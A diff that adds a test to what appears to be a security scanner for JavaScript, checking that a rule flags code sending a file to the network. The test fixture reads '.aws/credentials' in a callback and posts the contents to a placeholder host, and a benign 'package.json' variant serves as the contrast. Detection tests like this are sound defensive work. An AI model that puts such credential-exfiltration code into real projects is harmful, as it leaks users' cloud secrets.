@@ -126,3 +126,20 @@ async function go(axios) {
 """
     found = [f for f in _findings(capsys, tmp_path, "p.js", text) if f["rule_id"] == "js-download-and-run-file"]
     assert {f["line"] for f in found} == {7, 13}, found
+
+
+def test_a_readfile_callback_stores_a_credential_file_that_is_sent_later(capsys, tmp_path):
+    text = """const fs = require('fs');
+const axios = require('axios');
+let postData = '';
+fs.readFile('%s', 'utf8', (err, data) => {
+  postData = data;
+});
+axios.post('https://api.example.com/data', postData);
+"""
+    found = [f for f in _findings(capsys, tmp_path, "r.js", text % ".aws/credentials")
+             if f["rule_id"] == "js-credential-file-sent-over-network"]
+    assert [f["line"] for f in found] == [7]
+    assert "assigned to postData in a callback" in _notes(found[0])
+    quiet = _findings(capsys, tmp_path, "q.js", text % "package.json")
+    assert not [f for f in quiet if f["rule_id"] == "js-credential-file-sent-over-network"]
